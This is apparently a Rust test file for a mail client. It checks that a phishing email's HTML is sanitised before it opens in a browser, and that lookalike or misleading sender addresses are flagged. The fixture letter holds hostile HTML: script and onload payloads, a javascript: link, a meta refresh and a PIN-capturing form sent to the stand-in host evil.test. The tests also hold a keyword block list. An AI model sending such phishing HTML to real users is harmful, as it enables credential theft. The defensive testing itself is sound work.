//! A mail's HTML in the browser, and what of its addresses and links may deceive.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;

use super::stage::Stage;
use super::transcript::Transcript;

/// A letter that tries everything: it runs, loads, sends, covers, and its links and names lie.
const LETTER: &str = "From: \"help@bank.test\" <x@b\u{430}nk.example>\nTo: ana@example.test\n\
     Reply-To: Bank <y@evil.test>\nSubject: <b>Your</b> account\n\
     Date: Mon, 6 Jan 2020 10:00:00 +0000\nMessage-ID: <h1@example.test>\nMIME-Version: 1.0\n\
     Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n\
     <html><head><meta http-equiv=refresh content='0;url=https://evil.test'>\n\
     <base href=https://evil.test><style>body{background:url(//evil.test/a)}</style></head>\n\
     <body onload=steal()><p style='color:red;position:fixed'>Dear Ana</p>\n\
     <script>steal()</script><img src=https://evil.test/pixel width=1 height=1 alt=Logo>\n\
     <svg onload=steal()><script>steal()</script></svg>\n\
     <form action=https://evil.test/><input name=pin><button>Go</button></form>\n\
     <a href='https://evil.test/in'>https://bank.test/login</a>\n\
     <a href=javascript:steal()>here</a></body></html>\n";

/// A browser that notes which file it was given, and how that file was protected.
fn browser(stage: &Stage) -> (String, String) {
    let (program, seen) = (stage.elsewhere("browser"), stage.path("seen"));
    let script =
        format!("#!/bin/sh\nstat -c %a \"${{1#file://}}\" >{seen}\necho \"$1\" >>{seen}\n");
    fs::write(&program, script).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
    (program, seen)
}

#[test]
fn html_is_opened_when_it_is_safe() {
    let stage = Stage::new();
    stage.deliver(0, LETTER);
    stage.connect();
    let (program, seen) = browser(&stage);
    let stage = stage.variable("BROWSER", &program);
    let (told, code) = stage.json(&["mail", "show", "M1", "--html"], "");
    assert_eq!((code, &told["page"]["opened"]), (0, &true.into()), "{told}");
    let path = told["page"]["file"].as_str().unwrap();
    assert_eq!(fs::read_to_string(&seen).unwrap(), format!("600\nfile://{path}\n"));
    let page = fs::read_to_string(path).unwrap();
    for word in [
        "steal",
        "<script",
        "<svg",
        "<form",
        "<input",
        "<base",
        "refresh",
        "onload",
        "fixed",
        "url(",
        "javascript",
    ] {
        assert!(!page.contains(word), "{word} in {page}");
    }
    let loads = page.matches("evil.test").count();
    assert_eq!(loads, 3, "Reply-To, the link and its mark: {page}");
    for word in [
        "default-src 'none'",
        "Dear Ana",
        "&lt;b&gt;Your&lt;/b&gt; account",
        "alt=\"Logo\"",
        "</a> (! leads to evil.test)",
        "shows another address",
        "the domain of x@b\u{430}nk.example is xn--",
        "rel=\"noopener noreferrer nofollow\"",
    ] {
        assert!(page.contains(word), "no {word} in {page}");
    }
}

#[test]
fn what_deceives_is_marked() {
    let stage = Stage::new();
    stage.deliver(0, LETTER);
    stage.deliver(1, "From: Bo <bo@example.test>\nTo: ana@example.test\nSubject: Plain\nMessage-ID: <p@x>\n\nNo HTML.\n");
    stage.connect();
    let stage = stage.variable("BROWSER", "/nonexistent/browser");
    let mut told = Transcript::new(&stage, "page");
    for words in [
        &["mail", "list"][..],
        &["mail", "show", "M2"],
        &["mail", "show", "M2", "--html"],
        &["mail", "show", "M1", "--html"],
        &["mail", "show", "M9", "--html"],
        &["mail", "show", "M2", "--html", "--headers"],
    ] {
        told.run(words, "");
    }
    told.check();
    let (shown, _) = stage.json(&["mail", "show", "M2"], "");
    let warnings = shown["email"]["warnings"].as_array().unwrap();
    let types: Vec<&str> = warnings.iter().map(|it| it["type"].as_str().unwrap()).collect();
    assert_eq!(types, ["lookalike", "nameIsAddress"], "{shown}");
    let plain = stage.json(&["mail", "show", "M1"], "").0;
    assert!(plain["email"].get("warnings").is_none(), "{plain}");
}
